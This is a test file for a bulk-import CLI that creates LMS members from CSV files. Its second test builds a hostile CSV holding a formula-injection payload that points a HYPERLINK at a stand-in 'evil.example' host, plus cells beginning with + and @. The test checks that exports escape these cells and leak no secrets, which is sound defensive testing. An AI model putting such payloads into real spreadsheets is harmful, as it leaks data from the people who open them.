// The CLI as an admin's script runs it: a separate process (the `bulk-desk` bin, scripts/cli.mjs) on a
// data folder, the real keychain (D-Bus session from scripts/test.sh) and a real sandbox LMS started
// here. Then the same folder is opened the way the app opens it, to prove the job is in its history.
// Each test's first command and every one that sends (run, resume, undo, sync) is the bin's own process;
// the imports, reads, exports and refusals around them run the same router in this process (cliHere).
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createServices } from '../../../src-main/services';
import { startSandbox } from '../../../src-main/sandbox/index';
import { callOk } from '../../helpers/callOk';
import { readAllFiles } from '../../helpers/readAllFiles';
import { tempDir } from '../../helpers/tempDir';
import { cli, json, ROOT, useCliWorld } from './runCli';
import { cliHere } from './runCliHere';

describe('bulk-desk CLI', () => {
  const w = useCliWorld();

  it("imports a CSV, runs a job against a Coursepath LMS, and the job is in the app's history with every row", async () => {
    const dir = (w.dir = tempDir());
    const sandbox = (w.sandbox = await startSandbox({ seed: 11 }));
    const cp = sandbox.credentials.coursepath;
    const D = ['--data-dir', dir.path];

    // The secret goes in on stdin only.
    const conn = json<{ id: string; hasSecret: boolean }>(
      await cli(
        [
          'connections',
          'add',
          '--api',
          'coursepath',
          '--name',
          'Nightly LMS',
          '--base-url',
          cp.baseUrl,
          '--email',
          cp.email,
          '--secret-stdin',
          '--json',
          ...D,
        ],
        { input: `${cp.apiKey}\n` },
      ),
    );
    expect(conn.hasSecret).toBe(true);

    const dataset = json<{ id: string; rowCount: number; columns: string[] }>(
      await cliHere(['import', join(ROOT, 'resources', 'sample-users.csv'), '--json', ...D]),
    );
    expect(dataset.rowCount).toBe(60);
    expect(dataset.columns).toContain('email');

    const mappingFile = join(dir.path, 'mapping.json');
    writeFileSync(
      mappingFile,
      JSON.stringify({
        fields: {
          email: { kind: 'column', column: 'email' },
          name: { kind: 'template', template: '{first_name} {last_name}' },
          department: { kind: 'column', column: 'department' },
        },
      }),
    );
    const run = await cli([
      'run',
      '--dataset',
      dataset.id,
      '--connection',
      conn.id,
      '--template',
      'coursepath.members.create',
      '--mapping',
      mappingFile,
      '--concurrency',
      '8',
      '--canary', // a real (non-sandbox) connection: no canary pause in this test of the whole run
      '0',
      '--wait',
      '--json',
      ...D,
    ]);
    expect(run.code, run.stderr).toBe(0);
    const summary = JSON.parse(run.stdout) as {
      id: string;
      state: string;
      counts: { succeeded: number; total: number };
    };
    expect(summary.state).toBe('completed');
    expect(summary.counts).toMatchObject({ succeeded: 60, total: 60 });
    expect(run.stderr).toMatch(/completed: 60 succeeded, 0 failed/);

    // Every row reached the LMS exactly once, each with its own token.
    const posts = sandbox.ledger.entries().filter((e) => e.method === 'POST' && e.path === '/api/v1/members');
    expect(posts).toHaveLength(60);
    expect(new Set(posts.map((e) => e.jti)).size).toBe(60);

    const shown = await cliHere(['jobs', 'show', summary.id, ...D]);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toMatch(/succeeded\s+60/);

    // The app's view: the same data folder opened by createServices, read through the contract.
    const services = (w.services = await createServices({ dataDir: dir.path, sandbox: false }));
    const jobs = await callOk(services, 'jobs.list', {});
    const job = jobs.find((j) => j.id === summary.id);
    expect(job).toBeDefined();
    expect(job!.state).toBe('completed');
    expect(job!.connectionName).toBe('Nightly LMS');
    expect(job!.counts).toMatchObject({ total: 60, succeeded: 60, failed: 0 });
    const items = await callOk(services, 'jobs.items', { jobId: summary.id, offset: 0, limit: 1000 });
    expect(items.total).toBe(60);
    expect(items.items.every((i) => i.status === 'succeeded' && i.responseStatus === 201)).toBe(true);
    const rows = await callOk(services, 'datasets.rows', { datasetId: dataset.id, offset: 0, limit: 1000 });
    expect(items.items.map((i) => i.rowNumber)).toEqual(rows.items.map((r) => r.rowNumber));
    await services.close();
    w.services = null;

    // The signing secret is nowhere in the data folder.
    expect(readAllFiles(dir.path)).not.toContain(cp.apiKey);
  });

  it('exports results with formula cells escaped, failed rows with their original columns and why, and no secret', async () => {
    const dir = (w.dir = tempDir());
    const sandbox = (w.sandbox = await startSandbox({ seed: 12 }));
    const cp = sandbox.credentials.coursepath;
    const D = ['--data-dir', dir.path];
    const csv = join(dir.path, 'hostile.csv');
    writeFileSync(
      csv,
      [
        'email,name,department',
        'ann@example.com,=HYPERLINK("http://evil.example/?x="&A1;"click"),Sales',
        'bob@example.com,+31 6 1234,-Finance',
        'not-an-email,@SUM(A1:A9),Legal', // skipped before sending: not an email
        'cleo@example.com,"Cleo, Jr.",Ops',
      ].join('\r\n') + '\r\n',
    );
    const conn = json<{ id: string }>(
      await cli(
        [
          'connections',
          'add',
          '--api',
          'coursepath',
          '--name',
          'LMS',
          '--base-url',
          cp.baseUrl,
          '--email',
          cp.email,
          '--secret-stdin',
          '--json',
          ...D,
        ],
        {
          input: cp.apiKey,
        },
      ),
    );
    const dataset = json<{ id: string }>(await cliHere(['import', csv, '--json', ...D]));
    const run = await cli([
      'run',
      '--dataset',
      dataset.id,
      '--connection',
      conn.id,
      '--template',
      'coursepath.members.create',
      '--auto',
      ...D,
    ]);
    expect(run.code, run.stderr).toBe(1); // a row did not go through
    const jobId = run.stdout.trim();
    expect(run.stderr).toMatch(/3 succeeded, 0 failed, 1 skipped/);
    // What is left to fix is named as what it is: no row failed, one was invalid (it said "Failed rows").
    expect(run.stderr).toContain(
      'Rows not through (1 invalid), ready to fix and import again: bulk-desk jobs export',
    );

    const results = join(dir.path, 'results.csv');
    expect((await cliHere(['jobs', 'export', jobId, '--out', results, ...D])).code).toBe(0);
    const text = readFileSync(results, 'utf8');
    const lines = text
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    // The columns and names History shows, the same as the app's download and jobs.export (jobColumns.ts).
    expect(lines[0]).toBe('email,name,department,Row,Outcome,HTTP status,Attempts,Error,Note,Key,Member ID');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(
      /^ann@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1;""click""\)",Sales,2,succeeded,201,1,,(?:"Read back: [^"]*"|),email=ann@example\.com,\d+$/,
    );
    expect(lines[2]).toMatch(/^bob@example\.com,'\+31 6 1234,'-Finance,3,succeeded,201,/);
    expect(lines[3]).toBe(
      `not-an-email,'@SUM(A1:A9),Legal,4,skipped (invalid),,0,"Row 4: Email: ""not-an-email"" is not an email address",,,`,
    );
    expect(lines[4]).toMatch(/^cleo@example\.com,"Cleo, Jr\.",Ops,5,succeeded,201,/);
    // No cell in the file starts a formula.
    for (const line of lines.slice(1))
      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);

    const failed = await cliHere(['jobs', 'export', jobId, '--only', 'failed', ...D]);
    expect(failed.code).toBe(0);
    // The original columns, then why the row was not sent (the column that marks the file as ours).
    expect(failed.stdout.replace(/^\uFEFF/, '')).toBe(
      'email,name,department,Bulk Desk: why it was not sent\r\n' +
        `not-an-email,'@SUM(A1:A9),Legal,"Row 4: Email: ""not-an-email"" is not an email address"\r\n`,
    );

    const asJson = await cliHere(['jobs', 'export', jobId, '--format', 'json', ...D]);
    const rows = JSON.parse(asJson.stdout) as {
      row: number;
      outcome: string;
      input: Record<string, string>;
      captured?: Record<string, string | null>;
    }[];
    expect(rows.map((r) => r.outcome)).toEqual(['succeeded', 'succeeded', 'skipped (invalid)', 'succeeded']);
    expect(rows[0]!.input.name).toBe('=HYPERLINK("http://evil.example/?x="&A1;"click")'); // JSON keeps the value as is
    expect(rows[0]!.captured?.['Member ID']).toMatch(/^\d+$/);

    for (const out of [text, failed.stdout, asJson.stdout, run.stdout, run.stderr]) {
      expect(out).not.toContain(cp.apiKey);
      expect(out).not.toMatch(/Bearer|eyJ/); // no token, signed or not
    }
  });

  it('prints help at every level, refuses a secret on the command line, and uses exit code 2 for wrong usage', async () => {
    const dir = (w.dir = tempDir());
    const top = await cli(['--help']);
    expect(top.code).toBe(0);
    expect(top.stdout).toMatch(/Usage: bulk-desk <command>/);
    for (const words of [
      ['jobs'],
      ['connections', '--help'],
      ['run', '--help'],
      ['jobs', 'export', '--help'],
      ['templates', 'list', '-h'],
    ]) {
      const r = await cli(words);
      expect(r.code, words.join(' ')).toBe(0);
      expect(r.stdout).toMatch(/Usage: bulk-desk/);
    }
    const noStdin = await cliHere([
      'connections',
      'add',
      '--api',
      'coursepath',
      '--name',
      'x',
      '--base-url',
      'http://127.0.0.1:1',
      '--email',
      'a@b.co',
      '--data-dir',
      dir.path,
    ]);
    expect(noStdin.code).toBe(2);
    expect(noStdin.stderr).toMatch(/--secret-stdin is required/);
    const argvSecret = await cliHere(['connections', 'add', '--secret', 'hunter2', '--data-dir', dir.path]);
    expect(argvSecret.code).toBe(2);
    expect((await cliHere(['jobs', 'frobnicate'])).code).toBe(2);
    expect((await cli(['run', '--data-dir', dir.path])).stderr).toMatch(/--dataset is required/);

    const templates = await cliHere(['templates', 'list', '--api', 'coassemble', '--json']);
    const list = JSON.parse(templates.stdout) as { api: string }[];
    expect(list.length).toBeGreaterThan(0);
    expect(list.every((t) => t.api === 'coassemble')).toBe(true);
  });
});
